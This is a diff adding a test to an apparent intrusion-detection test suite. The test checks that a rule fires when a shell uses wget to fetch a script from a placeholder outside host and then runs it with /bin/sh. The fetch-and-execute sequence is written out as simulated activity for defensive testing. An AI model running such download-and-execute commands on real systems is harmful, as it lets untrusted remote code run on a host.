@@ -100,3 +100,14 @@ test('a habit is that of whoever logged in, as root or not', async () => {
     ['medium', 'informational'],
   );
 });
+
+test('where only programs are recorded, what wget was told to write and what is run then are one', async () => {
+  const log = new HostLog({ files: false, network: false });
+  log.desktop('dev').run('/usr/lib/firefox/firefox');
+  log.wait(5 * MINUTE);
+  const shell = log.shell('dev');
+  shell.run(`/usr/bin/wget -q http://${OUT}/x.sh`);
+  log.wait(MINUTE);
+  shell.run('/bin/sh x.sh');
+  firesAt(await alertsOf(log), 'AN0321', 'medium');
+});
